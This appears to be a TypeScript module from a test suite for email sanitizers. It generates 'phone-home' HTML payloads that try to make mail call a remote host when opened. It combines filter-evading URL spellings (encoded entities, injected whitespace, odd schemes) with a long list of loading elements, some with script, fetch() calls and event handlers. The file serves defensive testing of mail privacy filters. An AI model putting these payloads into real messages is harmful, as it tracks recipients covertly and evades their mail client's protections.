/** Ways in which mail tries to tell somebody that it was read: each names a host of its own. */
import { type Payload, sign, type Template } from './payload.ts';
import { CSS_TEMPLATES } from './phone-home-css.ts';
import { FEATURE_TEMPLATES } from './phone-home-features.ts';

/** Spellings of one address that browsers read alike. */
const SPELLINGS: ((host: string) => string)[] = [
  (host) => `http://${host}/x`,
  (host) => `https://${host}/x`,
  (host) => `HTTP://${host}/x`,
  (host) => `hTtPs://${host}/x`,
  (host) => `//${host}/x`,
  (host) => `\\\\${host}\\x`,
  (host) => `/\\${host}/x`,
  (host) => `\\/${host}/x`,
  (host) => `http:\\\\${host}\\x`,
  (host) => `http:/\\${host}/x`,
  (host) => ` http://${host}/x`,
  (host) => `\n\thttp://${host}/x\n`,
  (host) => `ht\ntp://${host}/x`,
  (host) => `ht\ttp:\n//${host}/x`,
  (host) => `http://\n${host}/x`,
  (host) => `&#104;&#116;&#116;&#112;://${host}/x`,
  (host) => `&#x68;ttp&colon;&sol;&sol;${host}/x`,
  (host) => `http&#58;//${host}/x`,
  (host) => `ht&Tab;tp://${host}/x`,
  (host) => `ht&NewLine;tp://${host}/x`,
  (host) => `&#1;http://${host}/x`,
  (host) => `\u0000http://${host}/x`,
  (host) => `http://user:word@${host}/x`,
  (host) => `http://${host}:80/x`,
  (host) => `http://${host}./x`,
  (host) => `http://${host.toUpperCase()}/x`,
  (host) => `http://${host}?x`,
  (host) => `http://${host}#x`,
  (host) => `ftp://${host}/x`,
  (host) => `ws://${host}/x`,
  (host) => `http:${host}/x`,
  (host) => `http:///${host}/x`,
  (host) => `cid:http://${host}/x`,
  (host) => `cid://${host}/x`,
  (host) => `blob:http://${host}/x`,
  (host) => `filesystem:http://${host}/x`,
  (host) => `view-source:http://${host}/x`,
  (host) => `feed:http://${host}/x`,
];

const SPELT: Template[] = SPELLINGS.flatMap((spell): Template[] => [
  ({ host }) => `<img src="${spell(host)}">`,
  ({ host }) => `<img srcset="${spell(host)} 1x">`,
  ({ host }) => `<body background="${spell(host)}"><table background="${spell(host)}"><td>x`,
]);

/** Elements and attributes that load. `U` is the address. */
const ELEMENTS = `
<img src=U>
<img/src=U>
<img src='U' loading=lazy>
<img src=data:image/png;base64,AA onerror=x srcset="U 2x, U 3x">
<img src=x lowsrc=U dynsrc=U longdesc=U>
<img src="x" attributionsrc="U">
<img alt="" src="x" sizes="1px" srcset="U 1w">
<image src=U>
<image href=U>
<picture><source srcset="U"><img></picture>
<picture><source srcset="U 1x" media="all" type="image/png"><img src="cid:a"></picture>
<input type=image src=U>
<input type="image" formaction=U src=x>
<table background=U><tr><td>x
<table><tr background=U><td background=U>x
<table><thead background=U><th background=U>x
<body background=U>x
<div background=U style="width:9px">x</div>
<video src=U autoplay></video>
<video poster=U></video>
<video><source src=U></video>
<video><track src=U default kind=captions></video>
<audio src=U autoplay preload=auto></audio>
<audio><source src=U></audio>
<object data=U></object>
<object data=U type=image/png><img src=U></object>
<object type=text/html data=U></object>
<object><param name=movie value=U><param name=src value=U></object>
<object codebase=U classid=U></object>
<embed src=U>
<embed src=U type=image/svg+xml>
<applet code=U archive=U codebase=U></applet>
<iframe src=U></iframe>
<iframe srcdoc="<img src=U>"></iframe>
<iframe srcdoc="&lt;script src=U>&lt;/script>"></iframe>
<iframe src="data:text/html,<img src=U>"></iframe>
<iframe src="javascript:'<img src=U>'"></iframe>
<iframe src="about:blank" onload="this.src='U'"></iframe>
<frameset><frame src=U></frameset>
<frame src=U>
<fencedframe src=U></fencedframe>
<portal src=U></portal>
<ilayer src=U></ilayer><layer src=U></layer>
<bgsound src=U>
<link rel=stylesheet href=U>
<link rel="stylesheet" type="text/css" href="U" media=print>
<link rel=alternate stylesheet href=U title=a>
<link rel=icon href=U>
<link rel="shortcut icon" href=U>
<link rel=apple-touch-icon href=U>
<link rel=prefetch href=U>
<link rel=prerender href=U>
<link rel=preload as=image href=U>
<link rel=preload as=script href=U>
<link rel=preload as=style href=U onload=x>
<link rel=preload as=font crossorigin href=U>
<link rel=preload as=image imagesrcset="U 1x">
<link rel=modulepreload href=U>
<link rel=preconnect href=U>
<link rel=dns-prefetch href=U>
<link rel=manifest href=U>
<link rel=import href=U>
<link rel=search type=application/opensearchdescription+xml href=U title=x>
<link rel=pingback href=U>
<link rel=expect href=U blocking=render>
<link rel=compression-dictionary href=U>
<meta http-equiv=refresh content="0;url=U">
<meta http-equiv="refresh" content="0; URL='U'">
<meta http-equiv=refresh content="0,U">
<meta http-equiv=link content="<U>; rel=preload; as=image">
<meta http-equiv=content-security-policy content="default-src *; report-uri U">
<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri U"><img src=x>
<meta http-equiv=set-cookie content="a=b">
<meta http-equiv=x-dns-prefetch-control content=on><a href=U>x</a>
<meta http-equiv=origin-trial content=x><meta name=referrer content=unsafe-url><img src=U>
<base href=U><img src=y>
<base href="U/"><a href=y>x</a><form action=z><input type=submit></form>
<script src=U></script>
<script>fetch('U')</script>
<script type=module>import 'U'</script>
<script type=importmap>{"imports":{"a":"U"}}</script><script type=module>import 'a'</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["U"]}]}</script>
<script type=speculationrules>{"prerender":[{"source":"list","urls":["U"],"eagerness":"immediate"}]}</script>
<script for=window event=onload>new Image().src='U'</script>
<svg><image href=U></image></svg>
<svg><image xlink:href=U width=9 height=9></image></svg>
<svg><use href="U#a"></use></svg>
<svg><use xlink:href="U#a"></use></svg>
<svg><script href=U></script></svg>
<svg><script xlink:href=U></script></svg>
<svg><style>@import 'U';</style></svg>
<svg><style>*{background:url(U)}</style></svg>
<svg><filter id=f><feImage href=U></feImage></filter><rect width=9 height=9 filter=url(#f)></rect></svg>
<svg><filter id=f><feImage xlink:href=U></feImage></filter><rect width=9 height=9 filter=url(#f)></rect></svg>
<svg><rect width=9 height=9 fill="url(U#a)"></rect></svg>
<svg><rect width=9 height=9 stroke="url('U#a')"></rect></svg>
<svg><rect width=9 height=9 filter="url(U#a)"></rect></svg>
<svg><rect width=9 height=9 mask="url(U#a)" clip-path="url(U#b)"></rect></svg>
<svg><path marker-start="url(U#a)" marker-end="url(U#a)" d="M0 0L9 9"></path></svg>
<svg><text cursor="url(U),auto">x</text></svg>
<svg><a href=U><text y=9>x</text></a></svg>
<svg><animate attributeName=href values=U></animate></svg>
<svg><image><animate attributeName=href values="U;U" dur=1s></animate></image></svg>
<svg><image><set attributeName=href to=U></set></image></svg>
<svg><image><animate attributeName=xlink:href from=x by=U begin=0s></animate></image></svg>
<svg><rect width=9 height=9><animate attributeName=fill from="url(U#a)" to="url(U#b)"></animate></rect></svg>
<svg><foreignObject><img src=U></foreignObject></svg>
<svg><foreignObject><iframe src=U></iframe></foreignObject></svg>
<svg><color-profile xlink:href=U></color-profile><font-face-uri href=U></font-face-uri></svg>
<svg><linearGradient id=a href=U></linearGradient><pattern href=U></pattern><textPath href=U>x</textPath></svg>
<svg><discard href=U></discard><mpath href=U></mpath><animateMotion><mpath href=U></mpath></animateMotion></svg>
<svg xmlns:xlink=http://www.w3.org/1999/xlink><image xlink:href=U></svg>
<math href=U>x</math>
<math><mi xlink:href=U>x</mi></math>
<math><annotation-xml encoding=text/html><img src=U></annotation-xml></math>
<math><semantics><annotation src=U></annotation></semantics></math>
<math><mglyph src=U></mglyph></math>
<math><mtext><img src=U></mtext></math>
<form action=U><input type=submit></form>
<form action=U target=_top method=post><button>x</button></form>
<form id=f></form><button form=f formaction=U>x</button>
<form><input type=submit formaction=U formtarget=_blank></form>
<isindex action=U type=image src=U>
<a href=U>x</a>
<a href=U target=_blank>x</a>
<a href=U target=_top>x</a>
<a href=U target=_parent rel=opener>x</a>
<a href="#" ping=U>x</a>
<a href=mailto:a@b.example ping=U>x</a>
<a href=U download>x</a>
<a href=U download=a.exe>x</a>
<a href=x attributionsrc=U>x</a>
<map name=m><area shape=default href=U ping=U></map><img usemap=#m src=cid:a width=9 height=9>
<blockquote cite=U>x</blockquote><q cite=U>x</q><del cite=U>x</del>
<head profile=U></head>
<html manifest=U>
<command icon=U><menuitem icon=U>
<marquee loop=1 onstart="new Image().src='U'">x</marquee>
<keygen keytype=rsa challenge=U>
<template><img src=U></template>
<div><template shadowrootmode=open><img src=U><style>@import 'U'</style></template></div>
<div><template shadowrootmode=open><link rel=stylesheet href=U></template></div>
<slot><img src=U></slot>
<dialog open><img src=U></dialog>
<details open><summary><img src=U></summary><img src=U></details>
<noscript><img src=U></noscript>
<noscript><style></noscript><img src=U></style>
<noembed><img src=U></noembed><noframes><img src=U></noframes>
<xmp><img src=U></xmp><img src=U>
<textarea><img src=U></textarea><img src=U>
<title><img src=U></title><img src=U>
<select><option><img src=U></select>
<selectedcontent><img src=U></selectedcontent>
<canvas><img src=U></canvas>
<comment><img src=U></comment>
<!--><img src=U>-->
<!--[if IE]><img src=U><![endif]--><img src=U>
<![CDATA[<img src=U>]]>
<?xml-stylesheet href="U"?><img src=U>
<?php <img src=U> ?>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>"></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>">
<img src="data:text/html,<img src=U>">
<img src="data:image/png,<script>fetch('U')</script>">
<v:imagedata src=U></v:imagedata><v:fill src=U></v:fill>
<xml src=U id=x></xml><div datasrc=#x datafld=y></div>
<img is=x-y src=U><x-y src=U></x-y>
<img src=cid:x onerror="this.src='U'">
<img style="content:url(U)">
<li style="list-style:url(U)">x
<p style="background:url(U)">x
<font style='background-image: url("U")' color=red>x</font>
<td style="background:url(U)">x
<a style="background:url(U)" href="#">x</a>
<button popovertarget=p>x</button><div popover id=p><img src=U></div>
<button commandfor=p command=show-popover>x</button>
<body onload="location='U'"><body onpageshow="fetch('U')">
<style onload="fetch('U')"></style>
<link rel=stylesheet href="data:text/css,@import 'U'">
<link rel=stylesheet href="data:text/css,*{background:url(U)}">
`
  .trim()
  .split('\n');

const elements: Template[] = ELEMENTS.map(
  (line) =>
    ({ url }) =>
      line.replace(/\bU\b/g, url),
);

/** All ways, each signed by the host that it calls. */
export function phoneHomePayloads(): Payload[] {
  return sign('c', [...SPELT, ...elements, ...CSS_TEMPLATES, ...FEATURE_TEMPLATES]);
}
